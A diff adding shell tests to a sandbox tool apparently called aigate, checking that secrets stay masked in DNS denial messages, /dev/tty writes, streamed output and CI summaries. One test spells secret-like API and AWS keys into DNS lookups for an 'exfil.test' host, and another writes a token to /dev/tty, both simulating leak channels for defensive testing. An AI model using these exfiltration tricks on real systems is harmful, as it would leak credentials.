@@ -771,3 +771,87 @@ openai stdout 1
 aws_key stdout 1"
 	assert_audit_no_leak
 }
+
+# aigate's own denial lines name what the sandbox asked for, which the
+# sandbox chooses: a secret spelt into a DNS name (or a path) must not
+# reach the terminal that way either. The stub refuses the name without
+# forwarding it; the line on aigate's stderr shows only the name's last two
+# labels (DNS lower-cases names, past case-sensitive masks such as AWS
+# keys'), and every line is masked. (The audit trail keeps the name as
+# asked: it is the evidence, and it is not output.)
+test_mask_denial_lines_masked() {
+	mask_setup
+	printf 'allow_net:\n  - "allowed.test"\n' >>"$CFG"
+	fix_owner
+	ag run --audit-log "$AUDIT" -- sh -c 'getent hosts "$1.exfil.test"; getent hosts "$2.exfil.test"
+echo "getent $?"' sh "sk-ant-api03-Zq7XbT2mK9pLw4Rt6Yv8" "AKIAY34FZKBOKMUTVV7A"
+	assert_status 0
+	assert_stdout_contains "getent 2"
+	assert_stderr_contains "aigate: denied: dns …exfil.test"
+	assert_stderr_not_contains "zq7xbt2mk9" # the stub lower-cases names
+	assert_stderr_not_contains "y34fzkbokmutvv7a"
+	assert_no_leak
+	assert_audit "$AUDIT" action=dns enforcer=dns verdict=denied
+}
+
+# /dev/tty is the opener's controlling terminal. The supervisor opens files
+# for the sandbox, and it once had aigate's, the user's real terminal: a
+# secret written there bypassed the relay (and keystrokes could be read).
+# Now, with the user's terminal around aigate but CMD's fds redirected (no
+# pty), /dev/tty is ENXIO inside and nothing reaches the terminal; with a
+# pty it is the pty, masked.
+test_mask_dev_tty() {
+	mask_setup
+	command -v script >/dev/null 2>&1 || skip "script(1) (bsdutils) is not installed"
+	local inner
+	# The secret in a file: script(1) writes its command line into the log.
+	printf '%s\n' "$ANTHROPIC" >"$PROJ/tok.txt"
+	fix_owner
+	inner=$(printf '%q ' timeout -k 5 30 env -i PATH="$CLEAN_PATH" HOME="$HOME_DIR" \
+		AIGATE_HOME="$AG_HOME" NO_COLOR=1 "${AS_USER[@]}" "$AIGATE" run --audit-log "$AUDIT" \
+		-- sh -c 'cat tok.txt >/dev/tty; echo tty=$?')
+	(cd "$PROJ" && script -qec "$inner </dev/null >$T/redirected.out 2>&1" "$T/terminal.log") \
+		>/dev/null 2>&1
+	assert_file_contains "$T/redirected.out" "tty=2"
+	assert_file_contains "$T/redirected.out" "No such device or address"
+	assert_no_leak "$T/terminal.log" "$T/redirected.out"
+	(cd "$PROJ" && script -qec "$inner" "$T/pty.log") >/dev/null 2>&1
+	assert_file_contains "$T/pty.log" "sk-ant-***"
+	assert_file_contains "$T/pty.log" "tty=0"
+	assert_no_leak "$T/pty.log"
+}
+
+# delay_ms counts from the last write that kept output waiting: a secret
+# streamed a byte every 5 ms (an LLM's tokens) with the default 30 ms is
+# held whole and masked.
+test_mask_streamed_bytes() {
+	mask_setup
+	ag run --audit-log "$AUDIT" -- python3 -c '
+import os, sys, time
+s = sys.argv[1].encode() + b" done\n"
+for i in range(len(s)):
+    os.write(1, s[i:i + 1])
+    time.sleep(0.005)' "$ANTHROPIC"
+	assert_status 0
+	assert_stdout_is "sk-ant-*** done"
+	assert_no_leak
+}
+
+# The --ci summary lists denied programs by name, which the sandbox chooses:
+# a copy of cat named after a token is shown masked, on stderr and in
+# $GITHUB_STEP_SUMMARY.
+test_mask_ci_summary() {
+	mask_setup
+	printf 'API_KEY=x\n' >"$PROJ/.env"
+	mkdir -p "$PROJ/bin"
+	cp /bin/cat "$PROJ/bin/$ANTHROPIC"
+	fix_owner
+	AG_ENV=(GITHUB_STEP_SUMMARY="$T/summary.md")
+	: >"$T/summary.md"
+	chmod 666 "$T/summary.md"
+	ag run --ci -- sh -c 'LD_PRELOAD= "bin/$1" .env; true' sh "$ANTHROPIC"
+	assert_status 0
+	assert_stderr_contains "sk-ant-***"
+	assert_file_contains "$T/summary.md" "sk-ant-***"
+	assert_no_leak "$OUT" "$ERR" "$T/summary.md"
+}
